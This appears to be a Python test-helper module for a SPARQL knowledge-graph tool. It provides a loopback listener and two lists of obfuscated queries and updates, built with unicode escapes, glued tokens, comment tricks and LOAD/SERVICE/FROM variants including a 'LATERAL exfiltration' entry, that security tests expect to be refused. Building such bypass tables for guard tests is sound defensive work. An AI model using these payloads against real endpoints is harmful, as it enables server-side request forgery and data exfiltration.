"""Helpers for the security tests: a loopback listener that counts who contacts it, and the
table of tricks that try to make a query or update reach it."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

_EMPTY = b'{"head":{"vars":[]},"results":{"bindings":[]}}'
_ANSWER = (
    b"HTTP/1.1 200 OK\r\nContent-Type: application/sparql-results+json\r\n"
    b"Content-Length: " + str(len(_EMPTY)).encode() + b"\r\nConnection: close\r\n\r\n" + _EMPTY
)


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections made to it (each answered with
    an empty SPARQL result, so that an engine that got through would succeed)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.1)
        self.port = int(self.sock.getsockname()[1])
        self.count = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.count += 1
            with conn:
                conn.settimeout(2)
                try:
                    conn.recv(65536)
                    conn.sendall(_ANSWER)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    try:
        yield listener
    finally:
        listener.close()


def escape_letters(text: str) -> str:
    """Every ASCII letter written as a ``\\uXXXX`` escape."""
    return "".join(f"\\u{ord(c):04X}" if c.isascii() and c.isalpha() else c for c in text)


#: (name, query) that read-only paths must refuse; ``@U`` is the listener's SPARQL URL, ``@B``
#: its base URL. Each is a way to reach @U that a text-pattern guard missed, or an obfuscation.
QUERY_TRICKS: list[tuple[str, str]] = [
    ("plain SERVICE", "SELECT * WHERE { SERVICE <@U> { ?a ?b ?c } }"),
    ("glued to an integer", "SELECT * WHERE { ?s ?p 2022SERVICE <@U> { ?a ?b ?c } }"),
    ("glued to false", "SELECT * WHERE { ?s ?p falseSERVICE <@U> { ?a ?b ?c } }"),
    ("glued to a decimal", "SELECT * WHERE { ?s ?p 1.5SERVICE <@U> { ?a ?b ?c } }"),
    ("glued to a string", 'SELECT * WHERE { ?s ?p "x"SERVICE <@U> { ?a ?b ?c } }'),
    ("glued to a brace", "SELECT * WHERE {SERVICE<@U>{?a ?b ?c}}"),
    (
        "glued to a prefixed endpoint",  # rdflib: one prefixed name; the engine: SERVICE e:sparql
        "PREFIX e: <@B>\nSELECT * WHERE { ?s ?p ?o SERVICEe:sparql{ ?a ?b ?c } }",
    ),
    (
        "glued to false and a prefixed endpoint",
        "PREFIX e: <@B>\nSELECT * WHERE { ?s ?p falseSERVICEe:sparql{ ?a ?b ?c } }",
    ),
    (
        "\\# in a local name",
        "PREFIX ex: <http://example.org/>\n"
        "SELECT * WHERE { ?s ex:a\\# ?o . SERVICE <@U> { ?a ?b ?c } }",
    ),
    (
        "\\' in a local name",
        "PREFIX ex: <http://example.org/>\n"
        "SELECT * WHERE { ?s ex:a\\' ?o . SERVICE <@U> { ?a ?b ?c } } # '",
    ),
    (
        "\\u escape before # in an IRI",
        "SELECT * WHERE { ?s <http://example.org/\\u0061#f> ?o . SERVICE <@U> { ?a ?b ?c } }",
    ),
    ("keyword spelled with \\u", "SELECT * WHERE { \\u0053ERVICE <@U> { ?a ?b ?c } }"),
    ("keyword spelled with \\U", "SELECT * WHERE { \\U00000073ervice <@U> { ?a ?b ?c } }"),
    ("endpoint spelled with \\u", "SELECT * WHERE { SERVICE <\\u0068ttp@U7> { ?a ?b ?c } }"),
    (
        "\\u0022 inside a string",
        'SELECT * WHERE { ?s ?p "x\\u0022 . SERVICE <@U> { ?a ?b ?c } ?s ?p "y" }',
    ),
    ("an escape that spells an escape", "SELECT * WHERE { \\u005Cu0053ERVICE <@U> { ?a ?b ?c } }"),
    ("every letter escaped", escape_letters("SELECT * WHERE { SERVICE <@U> { ?a ?b ?c } }")),
    ("mixed case", "select * where { sErViCe <@U> { ?a ?b ?c } }"),
    ("comment in between", "SELECT * WHERE { SERVICE # <http://example.org/>\n<@U> { ?a ?b ?c } }"),
    (
        "a comment ended by a lone CR",  # rdflib reads the comment on to the line feed
        "SELECT * WHERE { ?s ?p ?o # x\rSERVICE <@U> { ?a ?b ?c }\n}",
    ),
    ("FROM after a CR-ended comment", "SELECT * # x\rFROM <@U>\nWHERE { ?s ?p ?o }"),
    ("tabs and CRs", "SELECT\t*\rWHERE\n{\tSERVICE\r\n<@U>\t{ ?a ?b ?c } }"),
    ("SILENT", "SELECT * WHERE { SERVICE SILENT <@U> { ?a ?b ?c } }"),
    (
        "nested subquery and OPTIONAL",
        "SELECT * WHERE { { SELECT * WHERE { OPTIONAL { { SERVICE <@U> { ?a ?b ?c } } } } } }",
    ),
    ("in FILTER EXISTS", "SELECT * WHERE { ?s ?p ?o FILTER EXISTS { SERVICE <@U> { ?a ?b ?c } } }"),
    (
        "in MINUS inside UNION",
        "SELECT * WHERE { { ?s ?p ?o } UNION { ?s ?p ?o MINUS { SERVICE <@U> { ?a ?b ?c } } } }",
    ),
    ("a variable endpoint", "SELECT * WHERE { BIND(<@U> AS ?u) SERVICE ?u { ?a ?b ?c } }"),
    ("a prefixed endpoint", "PREFIX e: <@B>\nSELECT * WHERE { SERVICE e:sparql { ?a ?b ?c } }"),
    ("a BASE-relative endpoint", "BASE <@B>\nSELECT * WHERE { SERVICE <sparql> { ?a ?b ?c } }"),
    (
        "LATERAL exfiltration",
        "SELECT * WHERE { ?r a kg:Report . LATERAL { "
        'BIND(IRI(CONCAT("@U?r=", ENCODE_FOR_URI(STR(?r)))) AS ?u) SERVICE ?u { ?a ?b ?c } } }',
    ),
    ("CONSTRUCT", "CONSTRUCT { ?a ?b ?c } WHERE { SERVICE <@U> { ?a ?b ?c } }"),
    ("ASK", "ASK { SERVICE <@U> { ?a ?b ?c } }"),
    ("DESCRIBE", "DESCRIBE ?a WHERE { SERVICE <@U> { ?a ?b ?c } }"),
    ("FROM", "SELECT * FROM <@U> WHERE { ?s ?p ?o }"),
    ("FROM NAMED", "SELECT * FROM NAMED <@U> WHERE { GRAPH ?g { ?s ?p ?o } }"),
    ("FROM a prefixed name", "PREFIX e: <@B>\nSELECT * FROM e:data WHERE { ?s ?p ?o }"),
    ("FROM BASE-relative", "BASE <@B>\nSELECT * FROM <data> WHERE { ?s ?p ?o }"),
    ("FROM escaped", "SELECT * FROM <\\u0068ttp@U7> WHERE { ?s ?p ?o }"),
    ("a server's extension function", 'SELECT (bif:http_get("@U") AS ?x) WHERE { }'),
    (
        "an extension function by IRI",
        'SELECT * WHERE { FILTER(<http://www.openlinksw.com/schemas/bif#http_get>("@U")) }',
    ),
    ("LOAD", "LOAD <@U>"),
    ("LOAD glued", "INSERT DATA { <urn:a> <urn:b> 1 };LOAD<@U>"),
    ("LOAD escaped", "\\u004cOAD <@U>"),
    ("update with SERVICE", "INSERT { ?a ?b ?c } WHERE { SERVICE <@U> { ?a ?b ?c } }"),
]

#: (name, update) that ``kg serve --update`` must refuse: each would fetch @U.
UPDATE_TRICKS: list[tuple[str, str]] = [
    ("plain LOAD", "LOAD <@U>"),
    ("LOAD SILENT INTO GRAPH", "LOAD SILENT <@U> INTO GRAPH <urn:g>"),
    ("LOAD glued to a brace", "INSERT DATA { <urn:a> <urn:b> 2022 };LOAD<@U>"),
    ("LOAD glued to an integer", "INSERT DATA { <urn:a> <urn:b> 2022 }\n;2022LOAD <@U>"),
    ("LOAD spelled with \\u", "\\u004cOAD <@U>"),
    ("LOAD mixed case", "lOaD <@U>"),
    ("LOAD after a comment", "# LOAD nothing\nCLEAR SILENT GRAPH <urn:x> ; LOAD # x\n <@U>"),
    (
        "LOAD after \\# in a local name",
        "PREFIX ex: <http://example.org/>\nINSERT DATA { ex:a\\# ex:b ex:c } ; LOAD <@U>",
    ),
    ("LOAD after a CR-ended comment", "CLEAR SILENT GRAPH <urn:x> # x\rLOAD <@U>\n"),
    ("LOAD glued to a prefixed name", "PREFIX e: <@B>\nLOADe:data"),
    ("LOAD a prefixed name", "PREFIX e: <@B>\nLOAD e:data"),
    ("LOAD BASE-relative", "BASE <@B>\nLOAD <data>"),
    ("SERVICE in WHERE", "INSERT { ?a ?b ?c } WHERE { SERVICE <@U> { ?a ?b ?c } }"),
    (
        "SERVICE in DELETE/INSERT",
        "DELETE { ?a ?b ?c } INSERT { ?a ?b ?c } WHERE { OPTIONAL { SERVICE <@U> { ?a ?b ?c } } }",
    ),
    ("every letter escaped", escape_letters("LOAD <@U>")),
]


def fill(template: str, listener: Listener) -> str:
    host = listener.base.removeprefix("http")
    return (
        template.replace("@U7", host + "sparql")
        .replace("@U", listener.base + "sparql")
        .replace("@B", listener.base)
    )
